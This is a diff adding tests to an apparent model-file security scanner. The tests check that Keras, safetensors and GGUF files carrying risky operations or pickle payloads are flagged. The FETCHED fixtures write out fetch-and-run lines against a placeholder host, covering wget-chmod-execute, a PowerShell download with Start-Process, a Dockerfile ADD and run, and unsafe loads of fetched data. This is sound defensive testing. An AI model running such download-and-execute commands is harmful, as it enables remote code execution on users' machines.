@@ -13,6 +13,8 @@ from moongate.scan.decoding import DEEPEST, parsed
 from moongate.scan.engine import judge
 from moongate.weights.ranged import Held
 from support.pickled import EVIL
+from support.scan_samples.documents import keras_zip, layer, model
+from support.scan_samples.headers import gguf, safetensors, tensor
 
 
 def verdict(text: str, name: str = "file") -> str:
@@ -106,3 +108,40 @@ def test_what_asks_for_code_is_for_review(name: str, text: str) -> None:
 @pytest.mark.parametrize(("name", "text"), ORDINARY)
 def test_ordinary_ones_are_clean(name: str, text: str) -> None:
     assert verdict(text, name) == "clean"
+
+
+def tensorflow(function: str) -> bytes:
+    return keras_zip(model(layer("TFOpLambda", {"function": function})))
+
+
+def test_operations_of_tensorflow_in_a_keras_model() -> None:
+    for function in ("io.read_file", "raw_ops.WriteFile", "numpy_function", "compat.v1.py_func"):
+        assert judge(Held(tensorflow(function)), "m.keras").verdict == "dangerous"
+    assert judge(Held(tensorflow("math.add")), "m.keras").verdict == "clean"
+
+
+FETCHED = (
+    ("x.py", "import io, requests, torch\ntorch.load(io.BytesIO(requests.get('http://x.test').content))\n"),
+    ("x.py", "import requests, yaml\nyaml.unsafe_load(requests.get('http://x.test').text)\n"),
+    ("Dockerfile", "FROM python\nADD http://x.test/a.sh /a.sh\nRUN sh /a.sh\n"),
+    ("run.sh", "wget http://x.test/start\nchmod +x start\n./start\n"),
+    ("x.ps1", "Invoke-WebRequest http://x.test/a.exe -OutFile a.exe; Start-Process a.exe\n"),
+    ("x.html", "<html><script>new ActiveXObject('WScript.Shell').Run('x')</script></html>"),
+)
+
+
+@pytest.mark.parametrize(("name", "text"), FETCHED)
+def test_what_is_fetched_and_run_is_dangerous(name: str, text: str) -> None:
+    assert verdict(text, name) == "dangerous"
+
+
+def test_what_only_loads_or_fetches_is_not() -> None:
+    assert verdict("import torch\ntorch.load('x.bin')\n", "x.py") == "clean"
+    assert verdict("wget https://x.test/model.bin\npython app.py\n", "run.sh") == "clean"
+
+
+def test_notes_of_headers_may_spell_a_pickle() -> None:
+    spelt = SPELT[0]
+    header = json.dumps({"__metadata__": {"x": spelt}, "a": tensor(0, 4)})
+    assert judge(Held(safetensors(header, bytes(4))), "m.safetensors").verdict == "suspicious"
+    assert judge(Held(gguf({"general.x": spelt})), "m.gguf").verdict == "suspicious"
